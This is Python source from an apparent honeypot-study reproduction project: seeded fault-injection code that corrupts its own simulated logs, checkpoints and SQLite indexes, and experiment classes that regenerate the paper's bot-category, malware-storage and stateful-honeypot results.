    shard_index: int,
    attempt: int,
    days: int,
) -> int | None:
    """After how many simulated days attempt ``attempt`` of this shard dies.

    ``None`` means the attempt survives.  Keyed by ``(shard, attempt)``
    so retries of a crashed shard roll fresh — a crash schedule can kill
    several attempts in a row (forcing the serial fallback) without ever
    being able to loop forever.
    """
    if faults is None or faults.worker_crash_probability <= 0.0 or days <= 0:
        return None
    rng = RngTree(seed).child("faults", "integrity", "crash", shard_index, attempt).rand()
    if rng.random() >= faults.worker_crash_probability:
        return None
    return rng.randrange(days)


def hang_point(
    faults: IntegrityFaults | None,
    seed: int,
    shard_index: int,
    attempt: int,
    days: int,
) -> tuple[int, float] | None:
    """Where (and for how long) attempt ``attempt`` of this shard stalls.

    Returns ``(day index, stall seconds)``, or ``None`` when the attempt
    keeps making progress.  Keyed by ``(shard, attempt)`` on a stream
    independent of :func:`crash_point`, so hangs and crashes can be
    co-scheduled on the same shard without perturbing each other.
    """
    if faults is None or faults.worker_hang_probability <= 0.0 or days <= 0:
        return None
    rng = RngTree(seed).child("faults", "integrity", "hang", shard_index, attempt).rand()
    if rng.random() >= faults.worker_hang_probability:
        return None
    return rng.randrange(days), faults.worker_hang_seconds


def _mangle_line(line: str, rng: random.Random) -> str:
    """Damage one line: truncate it, or flip one character."""
    if not line:
        return line
    if rng.random() < 0.5:
        return line[: rng.randrange(0, len(line))]
    index = rng.randrange(len(line))
    replacement = "~" if line[index] != "~" else "#"
    return line[:index] + replacement + line[index + 1 :]


@dataclass(frozen=True)
class LogCorruptor:
    """Mangles, duplicates and reorders session-log lines on export.

    Applied by :func:`repro.honeynet.io.write_jsonl` *after* the sidecar
    manifest is computed over the clean lines — the manifest records
    what the writer meant, the file records what the fault model let
    through, and the reader reconciles the two.
    """

    faults: IntegrityFaults
    tree: RngTree

    def corrupt_lines(self, lines: list[str]) -> list[str]:
        """The on-disk line sequence for the given clean lines."""
        rng = self.tree.rand()
        faults = self.faults
        out: list[str] = []
        for line in lines:
            roll = rng.random()
            if roll < faults.line_mangle_probability:
                out.append(_mangle_line(line, rng))
                telemetry.count("integrity.injected.mangled")
            elif roll < (
                faults.line_mangle_probability + faults.line_duplicate_probability
            ):
                out.append(line)
                out.append(line)
                telemetry.count("integrity.injected.duplicated")
            else:
                out.append(line)
        if faults.line_reorder_probability > 0.0:
            index = 0
            while index < len(out) - 1:
                if rng.random() < faults.line_reorder_probability:
                    out[index], out[index + 1] = out[index + 1], out[index]
                    telemetry.count("integrity.injected.reordered")
                    index += 2
                else:
                    index += 1
        return out


@dataclass(frozen=True)
class CheckpointCorruptor:
    """Bit-flips or truncates checkpoint files after they are saved."""

    probability: float
    tree: RngTree

    def maybe_corrupt(self, path: Path | str, key: int) -> bool:
        """Corrupt the file at ``path`` with the configured probability.

        ``key`` identifies the save event (the resume cursor's ordinal),
        so the decision is independent of how the run reached this save.
        Returns True when the file was damaged.
        """
        rng = self.tree.child(int(key)).rand()
        if rng.random() >= self.probability:
            return False
        corrupt_file(Path(path), rng)
        telemetry.count("checkpoint.corruptions")
        return True


#: The damage modes :class:`IndexCorruptor` can apply to an index file.
INDEX_CORRUPTION_MODES = ("bitflip", "truncate", "drop-rows")

#: SQLite's default page size — bit flips target whole pages so damage
#: lands where ``PRAGMA quick_check`` (or a failed read) can find it.
_SQLITE_PAGE_SIZE = 4096


@dataclass(frozen=True)
class IndexCorruptor:
    """Damages built ``index.sqlite`` artifacts after a faithful write.

    Three modes, covering the store's distinct failure surfaces:

    * ``bitflip`` — flip several bits inside one page (media decay; may
      land in free space, so detection is *not* guaranteed — queries
      must still answer correctly either way);
    * ``truncate`` — cut the file short (torn write / lost tail);
    * ``drop-rows`` — delete rows via SQL so the file stays a perfectly
      healthy database that silently *disagrees with its shards* — the
      desync only the index-audit cross-check can catch.

    Like every corruptor, decisions come from a seed-derived
    :class:`~repro.util.rng.RngTree` keyed by artifact, so the same seed
    damages the same index the same way every run, and a zero
    probability leaves fault-free runs untouched.  ``mode=None`` lets
    the stream pick; a fixed mode makes the damage reproducible by name
    (the CLI's ``--index-mode``).
    """

    probability: float
    tree: RngTree
    mode: str | None = None

    def __post_init__(self) -> None:
        if self.mode is not None and self.mode not in INDEX_CORRUPTION_MODES:
            known = ", ".join(INDEX_CORRUPTION_MODES)
            raise ValueError(
                f"unknown index corruption mode {self.mode!r} (known: {known})"
            )

    def maybe_corrupt(self, path: Path | str, key: int | str) -> str | None:
        """Corrupt the index at ``path`` with the configured probability.

        ``key`` identifies the build event (e.g. the export ordinal), so
        the decision is independent of how the run reached this build.
        Returns the mode applied, or ``None`` when the index survives.
        """
        rng = self.tree.child(key).rand()
        if rng.random() >= self.probability:
            return None
        mode = self.mode or rng.choice(INDEX_CORRUPTION_MODES)
        corrupt_index(Path(path), mode, rng)
        telemetry.count("store.corruptions")
        telemetry.count(f"store.corruptions.{mode}")
        return mode


def corrupt_index(path: Path, mode: str, rng: random.Random) -> None:
    """Apply one named damage mode to the index file at ``path``."""
    if mode == "drop-rows":
        import sqlite3

        try:
            connection = sqlite3.connect(path)
            try:
                with connection:
                    total = connection.execute(
                        "SELECT COUNT(*) FROM sessions"
                    ).fetchone()[0]
                    if total == 0:
                        return
                    victims = max(1, total // 4)
                    connection.execute(
                        "DELETE FROM sessions WHERE rowid IN ("
                        "SELECT rowid FROM sessions ORDER BY session_id "
                        f"LIMIT {victims})"
                    )
            finally:
                connection.close()
            return
        except sqlite3.Error:
            # Not (or no longer) a valid database — degrade to raw damage.
            mode = "bitflip"
    data = bytearray(path.read_bytes())
    if len(data) < 2:
        return
    if mode == "truncate":
        path.write_bytes(bytes(data[: rng.randrange(1, len(data))]))
        return
    # bitflip: scatter a handful of flips across one page.
    page_count = max(1, len(data) // _SQLITE_PAGE_SIZE)
    page = rng.randrange(page_count)
    start = page * _SQLITE_PAGE_SIZE
    end = min(len(data), start + _SQLITE_PAGE_SIZE)
    for _ in range(8):
        index = rng.randrange(start, end)
        data[index] ^= 1 << rng.randrange(8)
    path.write_bytes(bytes(data))


def corrupt_file(path: Path, rng: random.Random) -> None:
    """Damage ``path`` in place: truncate it, or flip one bit."""
    data = bytearray(path.read_bytes())
    if len(data) < 2:
        return
    if rng.random() < 0.5:
        path.write_bytes(bytes(data[: rng.randrange(1, len(data))]))
    else:
        index = rng.randrange(len(data))
        data[index] ^= 1 << rng.randrange(8)
        path.write_bytes(bytes(data))


def build_log_corruptor(
    faults: IntegrityFaults | None, tree: RngTree
) -> LogCorruptor | None:
    """A line corruptor for one export stream, or None when inert."""
    if faults is None or not faults.corrupts_lines:
        return None
    return LogCorruptor(faults=faults, tree=tree)


def build_checkpoint_corruptor(
    faults: IntegrityFaults | None, tree: RngTree
) -> CheckpointCorruptor | None:
    """A checkpoint corruptor for one run, or None when inert."""
    if faults is None or faults.checkpoint_corruption_probability <= 0.0:
        return None
    return CheckpointCorruptor(
        probability=faults.checkpoint_corruption_probability, tree=tree
    )


def build_index_corruptor(
    faults: IntegrityFaults | None, tree: RngTree, *, mode: str | None = None
) -> IndexCorruptor | None:
    """An index corruptor for one run, or None when inert."""
    if faults is None or faults.index_corruption_probability <= 0.0:
        return None
    return IndexCorruptor(
        probability=faults.index_corruption_probability, tree=tree, mode=mode
    )
