"""Seeded corruption and crash events for persisted artifacts.

The loss model (:mod:`repro.faults.transport`) breaks records *in
flight*; this module breaks what has already been written — checkpoint
files on disk, session-log lines in an export stream — and kills shard
workers mid-run.  Like every other fault, the events are drawn from
seed-derived :class:`~repro.util.rng.RngTree` streams keyed by artifact
and attempt, so the same seed corrupts the same bytes every run and the
simulation's own record streams are never perturbed.

This module must not import :mod:`repro.config` (the config module
embeds :class:`~repro.faults.plan.FaultProfile`, which carries our
:class:`~repro.faults.plan.IntegrityFaults` knobs).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path

from repro import telemetry
from repro.faults.plan import IntegrityFaults
from repro.util.rng import RngTree


class WorkerCrash(RuntimeError):
    """An injected shard-worker death (simulated process crash).

    Raised inside a worker; the parallel engine treats it exactly like a
    real crash: the shard's partial output is discarded, the shard is
    deterministically re-executed, and bounded retries fall back to
    serial in-process execution.
    """


class WorkerHang(RuntimeError):
    """An injected shard-worker stall (simulated hung process).

    The worker stops making progress for the fault's configured stall
    time and then dies like a crash, freeing its pool slot.  The
    parallel engine treats the eventual death exactly like a
    :class:`WorkerCrash`; with a shard deadline configured, the
    hung-worker watchdog cancels the attempt at the hard deadline
    instead of waiting the stall out.
    """


def crash_point(
    faults: IntegrityFaults | None,
    seed: int,
    shard_index: int,
    attempt: int,
    days: int,
) -> int | None:
    """After how many simulated days attempt ``attempt`` of this shard dies.

    ``None`` means the attempt survives.  Keyed by ``(shard, attempt)``
    so retries of a crashed shard roll fresh — a crash schedule can kill
    several attempts in a row (forcing the serial fallback) without ever
    being able to loop forever.
    """
    if faults is None or faults.worker_crash_probability <= 0.0 or days <= 0:
        return None
    rng = RngTree(seed).child("faults", "integrity", "crash", shard_index, attempt).rand()
    if rng.random() >= faults.worker_crash_probability:
        return None
    return rng.randrange(days)


def hang_point(
    faults: IntegrityFaults | None,
    seed: int,
    shard_index: int,
    attempt: int,
    days: int,
) -> tuple[int, float] | None:
    """Where (and for how long) attempt ``attempt`` of this shard stalls.

    Returns ``(day index, stall seconds)``, or ``None`` when the attempt
    keeps making progress.  Keyed by ``(shard, attempt)`` on a stream
    independent of :func:`crash_point`, so hangs and crashes can be
    co-scheduled on the same shard without perturbing each other.
    """
    if faults is None or faults.worker_hang_probability <= 0.0 or days <= 0:
        return None
    rng = RngTree(seed).child("faults", "integrity", "hang", shard_index, attempt).rand()
    if rng.random() >= faults.worker_hang_probability:
        return None
    return rng.randrange(days), faults.worker_hang_seconds


def _mangle_line(line: str, rng: random.Random) -> str:
    """Damage one line: truncate it, or flip one character."""
    if not line:
        return line
    if rng.random() < 0.5:
        return line[: rng.randrange(0, len(line))]
    index = rng.randrange(len(line))
    replacement = "~" if line[index] != "~" else "#"
    return line[:index] + replacement + line[index + 1 :]


@dataclass(frozen=True)
class LogCorruptor:
    """Mangles, duplicates and reorders session-log lines on export.

    Applied by :func:`repro.honeynet.io.write_jsonl` *after* the sidecar
    manifest is computed over the clean lines — the manifest records
    what the writer meant, the file records what the fault model let
    through, and the reader reconciles the two.
    """

    faults: IntegrityFaults
    tree: RngTree

    def corrupt_lines(self, lines: list[str]) -> list[str]:
        """The on-disk line sequence for the given clean lines."""
        rng = self.tree.rand()
        faults = self.faults
        out: list[str] = []
        for line in lines:
            roll = rng.random()
            if roll < faults.line_mangle_probability:
                out.append(_mangle_line(line, rng))
                telemetry.count("integrity.injected.mangled")
            elif roll < (
                faults.line_mangle_probability + faults.line_duplicate_probability
            ):
                out.append(line)
                out.append(line)
                telemetry.count("integrity.injected.duplicated")
            else:
                out.append(line)
        if faults.line_reorder_probability > 0.0:
            index = 0
            while index < len(out) - 1:
                if rng.random() < faults.line_reorder_probability:
                    out[index], out[index + 1] = out[index + 1], out[index]
                    telemetry.count("integrity.injected.reordered")
                    index += 2
                else:
                    index += 1
        return out


@dataclass(frozen=True)
class CheckpointCorruptor:
    """Bit-flips or truncates checkpoint files after they are saved."""

    probability: float
    tree: RngTree

    def maybe_corrupt(self, path: Path | str, key: int) -> bool:
        """Corrupt the file at ``path`` with the configured probability.

        ``key`` identifies the save event (the resume cursor's ordinal),
        so the decision is independent of how the run reached this save.
        Returns True when the file was damaged.
        """
        rng = self.tree.child(int(key)).rand()
        if rng.random() >= self.probability:
            return False
        corrupt_file(Path(path), rng)
        telemetry.count("checkpoint.corruptions")
        return True


def corrupt_file(path: Path, rng: random.Random) -> None:
    """Damage ``path`` in place: truncate it, or flip one bit."""
    data = bytearray(path.read_bytes())
    if len(data) < 2:
        return
    if rng.random() < 0.5:
        path.write_bytes(bytes(data[: rng.randrange(1, len(data))]))
    else:
        index = rng.randrange(len(data))
        data[index] ^= 1 << rng.randrange(8)
        path.write_bytes(bytes(data))


def build_log_corruptor(
    faults: IntegrityFaults | None, tree: RngTree
) -> LogCorruptor | None:
    """A line corruptor for one export stream, or None when inert."""
    if faults is None or not faults.corrupts_lines:
        return None
    return LogCorruptor(faults=faults, tree=tree)


def build_checkpoint_corruptor(
    faults: IntegrityFaults | None, tree: RngTree
) -> CheckpointCorruptor | None:
    """A checkpoint corruptor for one run, or None when inert."""
    if faults is None or faults.checkpoint_corruption_probability <= 0.0:
        return None
    return CheckpointCorruptor(
        probability=faults.checkpoint_corruption_probability, tree=tree
    )
