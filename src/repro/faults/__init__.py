"""Seeded fault injection and resilience for the collection pipeline.

The paper's 33-month deployment was not a clean instrument: it suffered
a 48-hour collection outage (section 3.3), sensor-level churn and
emulation gaps, and every finding had to survive them.  This package
makes those infrastructure failures a first-class, deterministic part of
the simulation:

* :mod:`repro.faults.plan` — the fault *plan*: which days the fleet is
  dark, which sensors are down, and how lossy the collection path is,
  all derived from the master seed.
* :mod:`repro.faults.transport` — the resilient honeypot→collector
  delivery channel (retries with exponential backoff + jitter, a
  dead-letter queue, idempotent dedup).
* :mod:`repro.faults.checkpoint` — periodic checkpointing of collector
  state so a killed run can resume mid-window to an identical dataset.
* :mod:`repro.faults.coverage` — per-month / per-sensor coverage
  accounting so degraded datasets are analysed with explicit gap
  annotations instead of silently misread.

None of these modules import :mod:`repro.config`; the config module
itself embeds a :class:`~repro.faults.plan.FaultProfile`, so the import
direction is ``faults → config → everything else``.
"""

from repro.faults.checkpoint import (
    CheckpointError,
    config_fingerprint,
    load_checkpoint,
    restore_state,
    save_checkpoint,
)
from repro.faults.coverage import (
    CoverageError,
    CoverageReport,
    build_coverage_report,
    validate_coverage,
)
from repro.faults.plan import (
    FaultPlan,
    FaultProfile,
    OutageWindow,
    SensorDowntime,
    TransportFaults,
    compile_fault_plan,
)
from repro.faults.transport import (
    DirectChannel,
    ResilientChannel,
    RetryPolicy,
    build_channel,
)

__all__ = [
    "CheckpointError",
    "CoverageError",
    "CoverageReport",
    "DirectChannel",
    "FaultPlan",
    "FaultProfile",
    "OutageWindow",
    "ResilientChannel",
    "RetryPolicy",
    "SensorDowntime",
    "TransportFaults",
    "build_channel",
    "build_coverage_report",
    "compile_fault_plan",
    "config_fingerprint",
    "load_checkpoint",
    "restore_state",
    "save_checkpoint",
    "validate_coverage",
]
