"""Seeded fault injection and resilience for the collection pipeline.

The paper's 33-month deployment was not a clean instrument: it suffered
a 48-hour collection outage (section 3.3), sensor-level churn and
emulation gaps, and every finding had to survive them.  This package
makes those infrastructure failures a first-class, deterministic part of
the simulation:

* :mod:`repro.faults.plan` — the fault *plan*: which days the fleet is
  dark, which sensors are down, and how lossy the collection path is,
  all derived from the master seed.
* :mod:`repro.faults.transport` — the resilient honeypot→collector
  delivery channel (retries with exponential backoff + jitter, a
  dead-letter queue, idempotent dedup).
* :mod:`repro.faults.checkpoint` — periodic, self-verifying, rotated
  checkpointing of collector state so a killed run — even one whose
  newest checkpoint was corrupted on disk — can resume mid-window to an
  identical dataset.
* :mod:`repro.faults.corruption` — seeded *storage* faults: bit-flips
  and truncation of checkpoint files, mangled/duplicated/reordered
  session-log lines, damaged or desynced ``index.sqlite`` artifacts
  (:mod:`repro.store`), and injected worker crashes for the parallel
  engine.
* :mod:`repro.faults.flood` — seeded *overload* faults: scan-campaign
  session bursts that push arrivals past the collector's admission
  budget (the defences live in :mod:`repro.overload`).
* :mod:`repro.faults.service` — seeded *client* faults for the
  query/status service: slow-loris readers, mid-response disconnects,
  thundering herds, malformed queries and injected store errors (the
  defences live in :mod:`repro.service`).
* :mod:`repro.faults.coverage` — per-month / per-sensor coverage
  accounting so degraded datasets are analysed with explicit gap
  annotations instead of silently misread.

None of these modules import :mod:`repro.config`; the config module
itself embeds a :class:`~repro.faults.plan.FaultProfile`, so the import
direction is ``faults → config → everything else``.
"""

from repro.faults.checkpoint import (
    CheckpointError,
    audit_checkpoint,
    config_fingerprint,
    has_checkpoint,
    load_checkpoint,
    load_latest_checkpoint,
    restore_state,
    save_checkpoint,
)
from repro.faults.corruption import (
    INDEX_CORRUPTION_MODES,
    IndexCorruptor,
    WorkerCrash,
    WorkerHang,
    build_checkpoint_corruptor,
    build_index_corruptor,
    build_log_corruptor,
    crash_point,
    hang_point,
)
from repro.faults.coverage import (
    CoverageError,
    CoverageReport,
    build_coverage_report,
    integrity_note,
    validate_coverage,
)
from repro.faults.flood import (
    FloodGenerator,
    build_flood_generator,
)
from repro.faults.service import (
    SERVICE_PROFILES,
    ServiceFaults,
    compile_request_plan,
    compile_tick_plan,
)
from repro.faults.plan import (
    FaultPlan,
    FaultProfile,
    FloodFaults,
    IntegrityFaults,
    OutageWindow,
    SensorDowntime,
    TransportFaults,
    compile_fault_plan,
)
from repro.faults.transport import (
    DirectChannel,
    ResilientChannel,
    RetryPolicy,
    build_channel,
)

__all__ = [
    "CheckpointError",
    "CoverageError",
    "CoverageReport",
    "DirectChannel",
    "FaultPlan",
    "FaultProfile",
    "FloodFaults",
    "FloodGenerator",
    "INDEX_CORRUPTION_MODES",
    "IndexCorruptor",
    "IntegrityFaults",
    "OutageWindow",
    "ResilientChannel",
    "RetryPolicy",
    "SERVICE_PROFILES",
    "SensorDowntime",
    "ServiceFaults",
    "TransportFaults",
    "WorkerCrash",
    "WorkerHang",
    "audit_checkpoint",
    "build_channel",
    "build_checkpoint_corruptor",
    "build_coverage_report",
    "build_index_corruptor",
    "build_flood_generator",
    "build_log_corruptor",
    "compile_fault_plan",
    "compile_request_plan",
    "compile_tick_plan",
    "config_fingerprint",
    "crash_point",
    "hang_point",
    "has_checkpoint",
    "integrity_note",
    "load_checkpoint",
    "load_latest_checkpoint",
    "restore_state",
    "save_checkpoint",
    "validate_coverage",
]
