"""Figure 2: bot categories in non-state-changing sessions."""

from __future__ import annotations

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.monthly import monthly_groups, overall_shares, top_n_shares
from repro.analysis.statechange import StateClass, state_class
from repro.experiments.base import Experiment, register


@register
class Fig02NonStateBots(Experiment):
    """Top-3 bot categories per month among non-state sessions."""

    experiment_id = "fig02"
    title = "Non-state-changing sessions: top bots per month"
    paper_reference = "Figure 2"

    def run(self, dataset):
        sessions = [
            s
            for s in dataset.database.command_sessions()
            if state_class(s) == StateClass.NON_STATE
        ]
        per_month = monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        top3 = top_n_shares(per_month, 3)
        rows = []
        for month in sorted(top3):
            entries = top3[month]
            total = sum(per_month[month].values())
            cells = [month, total]
            for name, share in entries:
                cells.append(f"{name}:{share:.0%}")
            while len(cells) < 5:
                cells.append("-")
            rows.append(cells)
        shares = overall_shares(per_month)
        echo_share = shares.get("echo_ok", 0.0)
        top3_overall = sorted(shares.items(), key=lambda kv: -kv[1])[:3]
        top3_share = sum(share for _, share in top3_overall)
        notes = [
            f"echo_OK share of non-state sessions: {echo_share:.1%} "
            "(paper: >80%)",
            f"top-3 categories cover {top3_share:.1%} (paper: >95%)",
            "wave-like categories present: "
            + ", ".join(
                sorted(
                    name
                    for name in shares
                    if name in ("bbox_scout_cat", "uname_a", "ak47_scout")
                )
            ),
        ]
        return self.result(
            ["month", "sessions", "top1", "top2", "top3"], rows, notes
        )
