"""Figure 9: malware-storage IP activity days across recall windows."""

from __future__ import annotations

from collections import Counter

from repro.analysis.storage import (
    DURATION_CLASSES,
    download_observations,
    infrastructure_observations,
    reappearance_after,
    recall_distribution,
)
from repro.experiments.base import Experiment, register

#: The four recall intervals of Figure 9.
RECALLS: tuple[tuple[str, float], ...] = (
    ("1-week", 7),
    ("4-week", 28),
    ("1-year", 365),
    ("all", float("inf")),
)


@register
class Fig09StorageActivity(Experiment):
    """Per recall window: distribution of storage-IP activity spans."""

    experiment_id = "fig09"
    title = "Malware storage activity days over time"
    paper_reference = "Figure 9"

    def run(self, dataset):
        observations = infrastructure_observations(
            download_observations(dataset.database.command_sessions())
        )
        rows = []
        summaries: dict[str, Counter] = {}
        for recall_name, recall_days in RECALLS:
            per_month = recall_distribution(observations, recall_days)
            totals: Counter = Counter()
            for counter in per_month.values():
                totals.update(counter)
            summaries[recall_name] = totals
            grand = sum(totals.values()) or 1
            for class_name, _ in DURATION_CLASSES:
                share = totals.get(class_name, 0) / grand
                if share > 0:
                    rows.append([recall_name, class_name, f"{share:.0%}"])
        week = summaries["1-week"]
        week_total = sum(week.values()) or 1
        one_day = week.get("<1d", 0) / week_total
        full_week = sum(
            week.get(c, 0)
            for c in ("<1w", "<2w", "<4w", "<8w", "<16w", "<0.5y", "<1y", ">=1y")
        ) / week_total
        notes = [
            f"1-week recall: {one_day:.0%} of IPs active a single day "
            "(paper: ~50%)",
            f"1-week recall: {full_week:.0%} active (nearly) the full week "
            "(paper: ~30%)",
            f"IPs reappearing after ≥6 months: "
            f"{reappearance_after(observations):.0%} (paper: ~25% on average)",
        ]
        notes.extend(dataset.coverage_notes())
        return self.result(
            ["recall window", "activity class", "share of IPs"], rows, notes
        )
