"""Experiment framework: one class per paper table/figure."""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.util.text import format_table


@dataclass
class ExperimentResult:
    """Structured output of one experiment.

    ``rows`` is the regenerated figure/table data; ``notes`` records the
    paper-vs-measured comparisons that feed EXPERIMENTS.md.
    """

    experiment_id: str
    title: str
    headers: list[str]
    rows: list[list[object]]
    notes: list[str] = field(default_factory=list)
    extra_text: str = ""

    def render(self) -> str:
        parts = [f"== {self.experiment_id}: {self.title} =="]
        if self.rows:
            parts.append(format_table(self.headers, self.rows))
        if self.extra_text:
            parts.append(self.extra_text)
        for note in self.notes:
            parts.append(f"note: {note}")
        return "\n".join(parts)

    def to_records(self) -> list[dict]:
        """Rows as dictionaries keyed by the column headers."""
        return [
            dict(zip(self.headers, row)) for row in self.rows
        ]

    def to_json(self) -> str:
        """The full result as a JSON document (for plotting elsewhere)."""
        import json

        return json.dumps(
            {
                "experiment_id": self.experiment_id,
                "title": self.title,
                "headers": self.headers,
                "rows": self.rows,
                "notes": self.notes,
            },
            default=str,
            indent=2,
        )

    def to_csv(self) -> str:
        """Rows as CSV text (header line first)."""
        import csv
        import io

        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(self.headers)
        writer.writerows(self.rows)
        return buffer.getvalue()


class Experiment:
    """Base class: subclasses set metadata and implement ``run``."""

    experiment_id: str = ""
    title: str = ""
    paper_reference: str = ""

    def run(self, dataset) -> ExperimentResult:  # noqa: ANN001
        raise NotImplementedError

    def result(
        self,
        headers: list[str],
        rows: list[list[object]],
        notes: list[str] | None = None,
        extra_text: str = "",
    ) -> ExperimentResult:
        return ExperimentResult(
            experiment_id=self.experiment_id,
            title=self.title,
            headers=headers,
            rows=rows,
            notes=notes or [],
            extra_text=extra_text,
        )


#: experiment_id → Experiment subclass.
REGISTRY: dict[str, type[Experiment]] = {}


def register(cls: type[Experiment]) -> type[Experiment]:
    """Class decorator adding an experiment to the registry."""
    if not cls.experiment_id:
        raise ValueError(f"{cls.__name__} lacks an experiment_id")
    if cls.experiment_id in REGISTRY:
        raise ValueError(f"duplicate experiment id {cls.experiment_id}")
    REGISTRY[cls.experiment_id] = cls
    return cls


def get_experiment(experiment_id: str) -> Experiment:
    return REGISTRY[experiment_id]()
