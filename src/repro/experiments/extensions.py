"""Extension experiments beyond the paper's figures.

These cover the paper's discussion-section proposals and the design
choices DESIGN.md calls out, as ablations:

* ``ext_stateful`` — the section-10 "better honeypots" proposal,
  implemented: persistent filesystems defeat write-then-check
  consistency probes.
* ``ext_ablation_tokenizer`` — the clustering robustness claim: how
  much does masking volatile tokens (IPs/URLs/credentials) matter?
* ``ext_ablation_ruleorder`` — Table 1's specific-before-generic rule
  ordering: what breaks if the generic ``gen_*`` rules run first?
* ``ext_ablation_detection`` — sensitivity of the mdrfckr low-activity
  detector (drop threshold vs event recall / false windows).
"""

from __future__ import annotations

from collections import Counter


from repro.analysis.classify import CommandClassifier, DEFAULT_CLASSIFIER
from repro.analysis.clusterselect import cluster_with_selection
from repro.analysis.distance import distance_matrix, sample_sessions
from repro.analysis.kmedoids import silhouette_score
from repro.analysis.mdrfckr_case import (
    correlate_events,
    daily_activity,
    detect_low_activity_windows,
    mdrfckr_sessions,
)
from repro.analysis.regexrules import RULES
from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
from repro.experiments.base import Experiment, register
from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.stateful import StatefulCowrieHoneypot, probe_detects_honeypot


@register
class ExtStatefulHoneypot(Experiment):
    """Consistency probes vs stateless / stateful / resetting honeypots."""

    experiment_id = "ext_stateful"
    title = "Extension: stateful honeypot vs consistency probes"
    paper_reference = "section 10 (Call for Better Honeypots)"

    N_PROBES = 20

    def run(self, dataset):
        import random

        rng = random.Random(dataset.config.seed)
        modes = [
            ("stateless (stock Cowrie)", lambda: CowrieHoneypot("hp-x", "192.0.2.1")),
            (
                "stateful (persistent fs)",
                lambda: StatefulCowrieHoneypot("hp-x", "192.0.2.1"),
            ),
            (
                "stateful, per-client isolation",
                lambda: StatefulCowrieHoneypot(
                    "hp-x", "192.0.2.1", per_client=True
                ),
            ),
            (
                "stateful, 30-min rollback",
                lambda: StatefulCowrieHoneypot(
                    "hp-x", "192.0.2.1", reset_after_s=1800.0
                ),
            ),
        ]
        rows = []
        detection = {}
        for name, factory in modes:
            honeypot = factory()
            detected = 0
            for index in range(self.N_PROBES):
                marker = "".join(
                    rng.choice("bcdfghjklmnpqrtvwxz") for _ in range(8)
                )
                if probe_detects_honeypot(
                    honeypot, marker, when=index * 7200.0
                ):
                    detected += 1
            rate = detected / self.N_PROBES
            detection[name] = rate
            rows.append([name, f"{rate:.0%}"])
        notes = [
            "a write-then-check probe exposes stock Cowrie every time "
            f"({detection['stateless (stock Cowrie)']:.0%} detected)",
            "persistent filesystems reduce detection to "
            f"{detection['stateful (persistent fs)']:.0%} — the paper's "
            "proposed fix, implemented",
            "the 30-min rollback variant is detected whenever the probe "
            "pair straddles a reset "
            f"({detection['stateful, 30-min rollback']:.0%}) — persistence "
            "horizon is the design knob",
        ]
        return self.result(["honeypot mode", "probe detection rate"], rows, notes)


@register
class ExtAblationTokenizer(Experiment):
    """Clustering with vs without volatile-token normalization."""

    experiment_id = "ext_ablation_tokenizer"
    title = "Ablation: token normalization in the DLD clustering"
    paper_reference = "section 6 (robustness claim)"

    SAMPLE = 150

    def run(self, dataset):
        sessions = sample_sessions(
            dataset.file_sessions(), self.SAMPLE, seed=dataset.config.seed
        )
        from repro.analysis.distance import session_tokens

        rows = []
        stats = {}
        # Two tokenizer configs in one process: the distance caches are
        # keyed by tokenizer fingerprint, so the raw variant can flow
        # through the same cached session_tokens/pair paths as the
        # paper variant without either serving the other's entries.
        for name, tokenizer in (
            ("normalized (paper)", DEFAULT_TOKENIZER),
            ("raw tokens", RAW_TOKENIZER),
        ):
            tokens = session_tokens(sessions, tokenizer=tokenizer)
            distinct = len({tuple(t) for t in tokens})
            matrix = distance_matrix(
                tokens, workers=dataset.config.workers, tokenizer=tokenizer
            )
            result, selection = cluster_with_selection(
                matrix, seed=dataset.config.seed
            )
            silhouette = silhouette_score(matrix, result.labels)
            stats[name] = (distinct, selection.chosen_k, silhouette)
            rows.append(
                [name, distinct, selection.chosen_k, f"{silhouette:.3f}"]
            )
        normalized = stats["normalized (paper)"]
        raw = stats["raw tokens"]
        notes = [
            f"normalization collapses {raw[0]} distinct behaviours to "
            f"{normalized[0]} — obfuscation (IPs, filenames, credentials) "
            "stops fragmenting clusters",
            f"silhouette with normalization {normalized[2]:.3f} vs raw "
            f"{raw[2]:.3f} (higher = tighter clusters)",
        ]
        return self.result(
            ["tokenization", "distinct sequences", "chosen k", "silhouette"],
            rows,
            notes,
        )


@register
class ExtValidationConfusion(Experiment):
    """Does the forensic classifier recover the generative ground truth?"""

    experiment_id = "ext_validation"
    title = "Validation: classifier vs simulator ground truth"
    paper_reference = "reproduction-internal consistency check"

    def run(self, dataset):
        from repro.analysis.validation import validate_classifier

        report = validate_classifier(dataset.database.command_sessions())
        rows = [
            [category, correct, total, f"{correct / total:.1%}"]
            for category, (correct, total) in sorted(
                report.per_category.items(), key=lambda kv: -kv[1][1]
            )[:15]
        ]
        worst = report.misclassified()[:3]
        notes = [
            f"overall agreement: {report.accuracy:.2%} over {report.total} "
            "mapped command sessions (the classifier never sees bot labels)",
            f"heaviest confusions: {worst if worst else 'none'}",
        ]
        return self.result(
            ["expected category", "correct", "sessions", "accuracy"],
            rows,
            notes,
        )


@register
class ExtSensorCoverage(Experiment):
    """Fleet-coverage view (the section-10 limitations discussion)."""

    experiment_id = "ext_sensor_coverage"
    title = "Extension: sensor load and coverage across the fleet"
    paper_reference = "sections 3.1 / 10 (limitations)"

    def run(self, dataset):
        from repro.analysis.clients import banner_distribution, sensor_coverage

        ssh = dataset.database.ssh_sessions()
        countries = {
            hp.honeypot_id: hp.country
            for hp in dataset.simulation.honeynet.honeypots
        }
        coverage = sensor_coverage(ssh, countries)
        rows = [
            [country, count]
            for country, count in coverage.sessions_per_country.most_common(10)
        ]
        banners = banner_distribution(ssh)
        top_banner = banners.most_common(1)[0] if banners else ("-", 0)
        curl_sessions = [
            s for s in ssh if s.bot_label == "curl_maxred"
        ]
        curl_honeypots = len({s.honeypot_id for s in curl_sessions})
        notes = [
            f"{coverage.active_honeypots}/"
            f"{len(dataset.simulation.honeynet.honeypots)} honeypots saw "
            f"traffic; load Gini {coverage.gini:.2f} (near 0 = even — most "
            "attacks spray the fleet uniformly)",
            f"curl_maxred reached {curl_honeypots} honeypots "
            "(the one deliberately non-uniform actor: 180/221 in the paper)",
            f"most common client banner: {top_banner[0]} "
